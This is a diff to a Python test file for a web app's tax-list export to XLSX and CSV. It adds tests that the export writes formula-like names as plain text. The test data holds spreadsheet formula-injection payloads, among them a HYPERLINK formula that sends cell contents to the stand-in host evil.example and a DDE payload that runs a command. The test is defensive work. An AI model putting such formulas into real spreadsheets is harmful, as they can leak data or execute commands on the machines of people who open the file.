@@ -5,7 +5,9 @@ the list shows (filters and scope included) to XLSX and CSV."""
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
+import zipfile
 from decimal import Decimal
 
 import pytest
@@ -166,3 +168,40 @@ def test_dates_and_decimals_are_exact(session, admin):
     admin.post("/api/v1/taxes/", json={"code": "DEC-T", "name": "Точность", "rate": "12.34"})
     tax = session.scalar(select(Tax).where(Tax.code == "DEC-T"))
     assert tax.rate == Decimal("12.34")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Открыть")', "=cmd|' /C calc'!A0",
+            "+1+1", "-2+3", "@SUM(A1:A2)"]
+
+
+def test_exports_write_typed_formulas_as_text(session, admin):
+    """Issue 20, item 5: a name typed as a formula is text in XLSX (a string cell, no
+    formula) and in CSV (behind an apostrophe); numbers stay numbers."""
+    for i, name in enumerate(FORMULAS):
+        response = admin.post("/api/v1/taxes/", json={"code": f"INJ-{i}", "name": name,
+                                                      "rate": "12.5" if i == 3 else "20"})
+        assert response.status_code == 201, response.get_json()
+    query = "?_flt_2_code=INJ-"
+    raw = admin.get(f"/taxview/export/xlsx{query}").data
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+    sheet = load_workbook(io.BytesIO(raw)).active
+    by_code = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    for i, name in enumerate(FORMULAS):
+        cell = by_code[f"INJ-{i}"][1]
+        assert (cell.data_type, cell.value) == ("s", name)
+    rates = {row[0].value: row[2].value for row in sheet.iter_rows(min_row=2)}
+    assert rates["INJ-3"] == 12.5 and rates["INJ-0"] == 20, "numbers stay numbers"
+    text = admin.get(f"/taxview/export/csv{query}").data.decode("utf-8-sig")
+    rows = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""), delimiter=";")}
+    for i, name in enumerate(FORMULAS):
+        assert rows[f"INJ-{i}"][1] == "'" + name
+    assert not rows["INJ-3"][2].startswith("'")
+
+
+def test_a_negative_number_and_a_date_are_not_escaped():
+    from views.refbook import _csv
+
+    text = _csv(["A", "B", "C", "D"], [[Decimal("-5"), dt.date(2026, 1, 2), "-x", "\t=1"]])
+    assert text.decode("utf-8-sig").splitlines()[1] == "-5;02.01.2026;'-x;'\t=1"
